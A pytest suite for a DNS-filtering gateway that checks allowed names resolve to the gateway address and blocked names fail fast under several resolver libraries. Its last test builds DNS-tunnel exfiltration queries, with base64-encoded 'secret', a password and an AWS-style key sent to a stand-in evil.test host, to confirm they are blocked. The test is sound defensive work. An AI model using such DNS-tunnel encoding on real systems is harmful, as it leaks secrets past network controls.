"""Lookups through gatehouse-resolver with the resolvers real containers use, each reading
the client namespace's resolv.conf (nameserver = the gateway, a search domain, default
timeout and attempts): glibc (getent), dig over UDP and TCP (and over IPv6), a musl-linked
getaddrinfo program and a pure-Go program.

- an allowed name gives the gateway's address (A) and its IPv6 address (AAAA);
- an allowed name never gets NXDOMAIN for any type (musl and Go give up on the whole name
  when either the A or the AAAA answer is NXDOMAIN);
- a blocked name fails with "not found", fast: well under the 5 s resolver timeout,
  including the search-domain retry glibc and Go make after the first NXDOMAIN.
"""

import pytest

from gh_testlib import scaled
import helpers
import topology as T

# seconds: a blocked lookup must fail well under the 5 s timeout (scaled, but under it
# whatever the scale: a lookup that waited for the timeout always fails the test)
FAST = scaled(1.0, below=5.0)
CLIENT_ADDRS = (T.CLIENT4, T.CLIENT6)
TOOLS = ["getent", "dig-udp", "dig-tcp", "dig-udp6", "musl", "go"]


def _dig_args(tool):
    return {"dig-udp": {}, "dig-tcp": {"tcp": True},
            "dig-udp6": {"server": T.GW_IN6}}[tool]


def _need(tool, bins):
    if tool in ("musl", "go") and bins[tool] is None:
        pytest.skip(bins["why"][tool])


@pytest.mark.parametrize("tool", TOOLS)
def test_allowed_name_gives_the_gateway(topo, lookup_bins, tool):
    _need(tool, lookup_bins)
    name = "api.example.test"
    topo.expect_query(name, "allow", CLIENT_ADDRS)
    if tool.startswith("dig"):
        d = helpers.dig(topo, name, "A", **_dig_args(tool))
        assert d.status == "NOERROR", d.raw
        assert d.addrs("A") == [T.GW_IN4], d.raw
        assert "aa" in d.flags and "ra" in d.flags, d.raw
        return
    r = helpers.lookup(topo, tool, name, bins=lookup_bins)
    assert r.ok, r
    assert set(r.addrs) == {T.GW_IN4, T.GW_IN6}, r
    r4 = helpers.lookup(topo, tool, name, family=4, bins=lookup_bins)
    assert r4.ok and r4.addrs == [T.GW_IN4], r4


@pytest.mark.parametrize("tool", TOOLS)
def test_allowed_name_aaaa_is_never_nxdomain(topo, lookup_bins, tool):
    _need(tool, lookup_bins)
    name = "assets.cdn.example.test"
    topo.expect_query(name, "allow", CLIENT_ADDRS)
    if tool.startswith("dig"):
        d = helpers.dig(topo, name, "AAAA", **_dig_args(tool))
        assert d.status == "NOERROR" and d.addrs("AAAA") == [T.GW_IN6], d.raw
        for qtype in ("MX", "TXT", "HTTPS"):
            d = helpers.dig(topo, name, qtype, **_dig_args(tool))
            # NODATA: NOERROR, no answer, the SOA in authority; never NXDOMAIN
            assert d.status == "NOERROR" and d.answers == [], (qtype, d.raw)
            assert [t for t, _ in d.authority] == ["SOA"], (qtype, d.raw)
        return
    r = helpers.lookup(topo, tool, name, family=6, bins=lookup_bins)
    assert r.ok and r.addrs == [T.GW_IN6], r


@pytest.mark.parametrize("tool", TOOLS)
def test_blocked_name_fails_fast(topo, lookup_bins, tool):
    _need(tool, lookup_bins)
    name = f"blocked-{tool}-{helpers.tag()}.evil.test"
    mark = topo.mark()
    topo.expect_query(name, "deny", CLIENT_ADDRS)
    if tool.startswith("dig"):
        d = helpers.dig(topo, name, "A", **_dig_args(tool))
        assert d.status == "NXDOMAIN", d.raw
        assert d.answers == [] and [t for t, _ in d.authority] == ["SOA"], d.raw
        assert d.ede == 15, d.raw                      # EDE 15 "Blocked" (dig sends EDNS)
        assert d.elapsed < FAST, d
        return
    r = helpers.lookup(topo, tool, name, bins=lookup_bins)
    assert not r.ok and r.notfound, r
    assert r.elapsed < FAST, r
    lines = topo.wait_audit("gatehouse-resolver", lambda e: e.get("qname") == name, since=mark)
    assert all(e["verdict"] == "deny" and e["rcode"] == "NXDOMAIN" for e in lines), lines
    if tool in ("getent", "go"):
        # the search-domain retry after the NXDOMAIN is answered (NXDOMAIN) at once too
        topo.expect_query(name + ".corp.test", "deny", CLIENT_ADDRS)
        topo.wait_audit("gatehouse-resolver", lambda e: e.get("qname") == name + ".corp.test"
                        and e["verdict"] == "deny", since=mark)


def test_exfiltration_style_lookups_are_answered_locally(topo):
    """Data encoded in query names (a DNS tunnel) gets NXDOMAIN from the gateway itself; the
    end-of-run leak test checks that none of these names reached the internet's DNS."""
    names = [f"{chunk}.t{helpers.tag()}.evil.test" for chunk in
             ("c2VjcmV0", "cGFzc3dvcmQ9aHVudGVyMg", "QUtJQUlPU0ZPRE5ON0VYQU1QTEU")]
    for n in names:
        topo.expect_query(n, "deny", CLIENT_ADDRS)
        d = helpers.dig(topo, n, "TXT")
        assert d.status == "NXDOMAIN", d.raw
